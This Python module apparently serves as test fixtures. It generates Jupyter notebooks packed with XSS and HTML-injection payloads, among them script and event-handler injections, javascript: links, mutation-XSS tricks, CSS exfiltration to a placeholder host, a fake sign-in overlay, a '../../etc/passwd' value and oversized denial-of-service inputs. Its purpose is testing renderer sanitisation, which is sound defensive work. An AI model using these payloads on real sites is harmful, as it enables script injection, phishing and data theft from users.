"""
Notebooks that try to run a script in the reader's browser, or to make it ask another server for something.

``SENTINEL`` stands for that server; ``RUN`` is a script that shows that it has run, in every way that it can.
"""

from __future__ import annotations

import base64
import json
from typing import Any

SENTINEL = "http://sentinel.invalid"
RUN = (
    f"window.__ran=1;document.documentElement.dataset.ran=1;new Image().src='{SENTINEL}/ran';top.postMessage('ran','*')"
)
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


def html(text: str) -> dict[str, Any]:
    return code(display({"text/html": text, "text/plain": "x"}))


def markdown(text: str, **cell: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": text, **cell}


def display(data: Any, **output: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data, **output}


def code(*outputs: Any, source: str = "x", **cell: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source,
        "outputs": list(outputs),
        **cell,
    }


def stream(text: Any, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def svg(text: str) -> dict[str, Any]:
    return code(display({"image/svg+xml": text, "text/plain": "x"}))


def error(ename: Any, evalue: Any, traceback: Any) -> dict[str, Any]:
    return code({"output_type": "error", "ename": ename, "evalue": evalue, "traceback": traceback})


# Put into HTML outputs and into Markdown, which passes HTML on.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src='{SENTINEL}/a.js'></script>",
    "script-module": f"<script type=module>import '{SENTINEL}/m.js';{RUN}</script>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-case": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script-unclosed": f"<script>{RUN}//",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-src": f"<img src='{SENTINEL}/i.png'>",
    "img-srcset": f"<img srcset='{SENTINEL}/s.png 1x' src='data:image/png;base64,{_PNG}'>",
    "img-lowsrc": f"<img lowsrc='{SENTINEL}/l.png' dynsrc='{SENTINEL}/d.png'>",
    "img-slash": f'<img/src/onerror="{RUN}">',
    "img-quote": f'<img src="x" title=\'"><script>{RUN}</script>\'>',
    "picture": f"<picture><source srcset='{SENTINEL}/p.webp'><img src=x></picture>",
    "body-onload": f'<body onload="{RUN}">',
    "div-events": f'<div onmouseover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>x</div>',
    "details-toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "input-autofocus": f'<input autofocus onfocus="{RUN}">',
    "animation-event": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{RUN}\">x</p>",
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video": f"<video src='{SENTINEL}/v.mp4' poster='{SENTINEL}/v.png' autoplay onloadstart=\"{RUN}\"></video>",
    "audio": f"<audio src='{SENTINEL}/a.mp3' autoplay onerror=\"{RUN}\"></audio>",
    "a-javascript": f'<a href="javascript:{RUN}" id=go>x</a>',
    "a-javascript-tab": f'<a href="java&#9;script:{RUN}">x</a>',
    "a-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a-data": f"<a href='data:text/html;base64,{_B64}'>x</a>",
    "a-ping": f"<a href='#x' ping='{SENTINEL}/ping'>x</a>",
    "iframe": f"<iframe src='{SENTINEL}/frame'></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "frameset": f"<frameset><frame src='{SENTINEL}/f'></frameset>",
    "object": f"<object data='{SENTINEL}/o.swf'></object><embed src='{SENTINEL}/e'>",
    "object-data": f"<object data='data:text/html;base64,{_B64}'></object>",
    "form": f"<form action='{SENTINEL}/form'><input name=a value=b><button autofocus>x</button></form>",
    "formaction": f'<button formaction="javascript:{RUN}" autofocus>x</button>',
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={SENTINEL}/meta'>",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": f"<base href='{SENTINEL}/'><a href='x'>x</a><img src='rel.png'>",
    "link-stylesheet": f"<link rel=stylesheet href='{SENTINEL}/c.css'>",
    "link-prefetch": f"<link rel=prefetch href='{SENTINEL}/p'><link rel=dns-prefetch href='//{SENTINEL[7:]}'><link rel=preconnect href='{SENTINEL}'>",
    "link-icon": f"<link rel=icon href='{SENTINEL}/favicon.ico'>",
    "link-modulepreload": f"<link rel=modulepreload href='{SENTINEL}/m.js'>",
    "style-import": f"<style>@import '{SENTINEL}/i.css';</style>",
    "style-background": f"<style>body{{background:url({SENTINEL}/b.png)}}</style>",
    "style-exfiltration": f"<style>section[id^='c']{{background:url({SENTINEL}/leak)}}</style><p class=x>x</p>",
    "style-font": f"<style>@font-face{{font-family:f;src:url({SENTINEL}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "style-attribute": f"<p style=\"background-image:url('{SENTINEL}/a.png');list-style:url({SENTINEL}/l.png)\">x</p>",
    "style-cursor": f"<p style='cursor:url({SENTINEL}/c.cur),auto;border-image:url({SENTINEL}/bi.png)'>x</p>",
    "style-escape": f"<p style='background:u\\72l({SENTINEL}/e.png)'>x</p>",
    "style-expression": f'<p style="width:expression({RUN})">x</p>',
    "style-cover": "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;background-color:red;z-index:9999'>sign in again</p>",
    "style-close": f"<style></style><script>{RUN}</script></style>",
    "table-background": f"<table background='{SENTINEL}/t.png'><tr><td background='{SENTINEL}/td.png'>x</td></tr></table>",
    "svg-inline": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg-use": f"<svg><use href='{SENTINEL}/u.svg#a'/><image href='{SENTINEL}/i.png'/></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"/></foreignObject></svg>',
    "math-mxss": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "math-href": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "noscript-mxss": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "svg-style-mxss": f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    "form-mxss": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "template": f'<template><img src=x onerror="{RUN}"></template>',
    "xmp": f"<xmp><p title=\"</xmp><img src=x onerror='{RUN}'>\"></xmp>",
    "textarea": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}">',
    "cdata": f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    "processing": f"<?xml-stylesheet href='{SENTINEL}/x.css'?><?php {RUN} ?>",
    "null-byte": f'<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error="{RUN}">',
    "attribute-break": f"</div></section></main><script>{RUN}</script>",
    "page-end": f"</body></html><script>{RUN}</script>",
    "clobber": "<img name=body><form id=cell-1><input name=attributes></form><a id=top name=top></a>",
    "shadow": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    "portal": f"<portal src='{SENTINEL}/portal'></portal><fencedframe src='{SENTINEL}/ff'></fencedframe>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SENTINEL}/spec"]}}]}}</script>',
    "is-attribute": f'<p is=x-y popover onbeforetoggle="{RUN}">x</p>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "utf7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "huge-attribute": f"<p title='{'a' * 200_000}' onclick=\"{RUN}\">x</p>",
    "deep": "<div>" * 3000 + f'<img src=x onerror="{RUN}">',
}

CELLS: dict[str, list[Any]] = {f"html-{name}": [html(text)] for name, text in MARKUP.items()}
CELLS |= {
    f"markdown-{name}": [markdown(text)] for name, text in MARKUP.items() if name not in ("deep", "huge-attribute")
}
CELLS |= {
    "markdown-link-javascript": [markdown(f"[x](javascript:{RUN}) [y](<javascript:{RUN}>)")],
    "markdown-image": [markdown(f"![x]({SENTINEL}/md.png) ![y](attachment:a.png)")],
    "markdown-reference": [markdown(f"![x][r]\n\n[r]: {SENTINEL}/ref.png")],
    "markdown-autolink": [markdown(f"<{SENTINEL}/auto> {SENTINEL}/bare")],
    "markdown-code-fence": [markdown(f'```html"><script>{RUN}</script>\n<script>{RUN}</script>\n```')],
    "markdown-heading": [markdown(f'# <img src=x onerror="{RUN}">\n\n## [x](javascript:{RUN})')],
    "markdown-math": [
        markdown(
            f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\unicode{{<script>{RUN}</script>}}$ $<img src=x onerror={RUN}>$"
        )
    ],
    "markdown-mermaid": [markdown(f"```mermaid\n</pre><script>{RUN}</script>\n```")],
    "markdown-attachment": [
        markdown(
            "![x](attachment:a.png)", attachments={"a.png": {'image/png" onerror="' + RUN: _PNG, "text/html": _B64}}
        )
    ],
    "markdown-attachment-html": [markdown("![x](attachment:a.png)", attachments={"a.png": {"text/html": _B64}})],
    "output-markdown": [code(display({"text/markdown": f"<script>{RUN}</script>\n![x]({SENTINEL}/om.png)"}))],
    "output-javascript": [code(display({"application/javascript": RUN, "text/plain": "x"}))],
    "output-latex": [code(display({"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>"}))],
    "output-json": [code(display({"application/json": {"a": f"</script><script>{RUN}</script>"}}))],
    "output-widget": [
        code(
            display(
                {"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{RUN}</script>"}, "text/plain": "w"}
            )
        )
    ],
    "output-plotly": [
        code(display({"application/vnd.plotly.v1+json": {"data": [{"text": f"<script>{RUN}</script>"}]}}))
    ],
    "output-unknown-type": [code(display({f'text/x-"><script>{RUN}</script>': "x"}))],
    "output-mermaid": [code(display({"text/vnd.mermaid": f"</pre><script>{RUN}</script>"}))],
    "image-png-quote": [code(display({"image/png": f'x" onerror="{RUN}'}))],
    "image-png-html": [code(display({"image/png": f'{_PNG}"><script>{RUN}</script>'}))],
    "image-jpeg-url": [code(display({"image/jpeg": f"{SENTINEL}/i.jpg"}))],
    "image-alt": [code(display({"image/png": _PNG, "text/plain": f'"><script>{RUN}</script>'}))],
    "svg-script": [svg(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>")],
    "svg-onload": [
        svg(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><image href='{SENTINEL}/i.png'/></svg>")
    ],
    "svg-external": [
        svg(
            f"<?xml-stylesheet href='{SENTINEL}/s.css'?><svg xmlns='http://www.w3.org/2000/svg'><style>@import url({SENTINEL}/i.css);"
            f"rect{{fill:url({SENTINEL}/f.svg#a)}}</style><rect width='9' height='9'/></svg>"
        )
    ],
    "svg-entity": [
        svg(
            f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{SENTINEL}/x'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
        )
    ],
    "svg-foreign-object": [
        svg(
            f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></body></foreignObject></svg>"
        )
    ],
    "stream-html": [code(stream(f"<script>{RUN}</script>"))],
    "stream-ansi": [code(stream(f'\x1b[31m<script>{RUN}</script>\x1b[0m\x1b[38;2;1;2;3"onclick={RUN}mx'))],
    "stream-osc-link": [code(stream(f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07"))],
    "stream-stderr": [code(stream(f'<img src=x onerror="{RUN}">', "stderr"))],
    "stream-name": [code(stream("x", f'"><script>{RUN}</script>'))],
    "stream-list": [code(stream(["<scr", "ipt>", RUN, "</scr", "ipt>"]))],
    "stream-bidi": [code(stream("\u202eevil\u202c \u2066x\u2069"))],
    "error-html": [error(f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">', [f"<script>{RUN}</script>"])],
    "error-not-text": [error({"a": 1}, ["x"], {"not": "a list"})],
    "source-html": [code(source=f"</pre></div><script>{RUN}</script>")],
    "source-raw": [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": f"<script>{RUN}</script>"}
    ],
    "tags-html": [code(source="x", metadata={"tags": [f'"><script>{RUN}</script>', "papermill"]})],
    "execution-count-html": [code(source="x", execution_count=f"<script>{RUN}</script>")],
    "id-html": [code(source="x", id=f'"><script>{RUN}</script>')],
    "duration-html": [
        code(
            source="x",
            metadata={"papermill": {"duration": f'1;"><script>{RUN}</script>', "start_time": [], "end_time": {}}},
        )
    ],
    "duration-infinite": [code(source="x", metadata={"papermill": {"duration": 1e308}})],
    "outputs-nonsense": [
        code({"output_type": "display_data", "data": {"text/html": {"a": 1}, "image/png": 7, "text/plain": None}})
    ],
    "outputs-empty": [code({}, {"output_type": "what"}, {"output_type": "display_data", "data": {}})],
    "surrogates": [
        code(stream("\ud800 lone \udfff"), display({"text/html": "<p title='\ud83d'>\udc00</p>"})),
        markdown("# \ud800"),
    ],
    "controls": [code(stream("".join(map(chr, range(32))) + "\x7f\x80\x9b31m\u2028\u2029\ufeff\ufffe"))],
    "giant-line": [code(stream("x" * 3_000_000))],
    "giant-lines": [code(stream("line\n" * 300_000))],
    "giant-html": [html("<p>" + "x" * 2_000_000 + "</p>")],
    "giant-table": [html("<table>" + "<tr><td>1</td><td>2</td></tr>" * 12_000 + "</table>")],
    "many-outputs": [code(*[display({"text/plain": str(number)}) for number in range(5000)])],
    "many-cells": [code(source=f"x{number}") for number in range(4000)],
    "nested-quotes": [markdown("> " * 500 + f"<script>{RUN}</script>")],
    "nested-lists": [markdown("\n".join("  " * depth + "- x" for depth in range(120)))],
    "pathological-emphasis": [markdown("*a **b " * 2000)],
    "pathological-links": [markdown("[" * 3000 + "](" * 3000)],
    "pathological-table": [markdown("|" * 4000 + "\n" + "|-" * 4000)],
}


def notebook(cells: list[Any], **metadata: Any) -> str:
    """Return the file's text; lone surrogates are escaped, as JSON can."""
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": [*cells, code(source="last = 1")]}
    )


NOTEBOOKS: dict[str, str] = {name: notebook(cells) for name, cells in CELLS.items()}
NOTEBOOKS |= {
    "kernel-html": notebook(
        [], kernelspec={"name": f'"><script>{RUN}</script>'}, language_info={"name": f"<script>{RUN}</script>"}
    ),
    "language-nonsense": notebook(
        [], language_info={"name": "../../etc/passwd", "pygments_lexer": f"<script>{RUN}</script>"}
    ),
    "title-html": notebook([], title=f"</title><script>{RUN}</script>"),
}
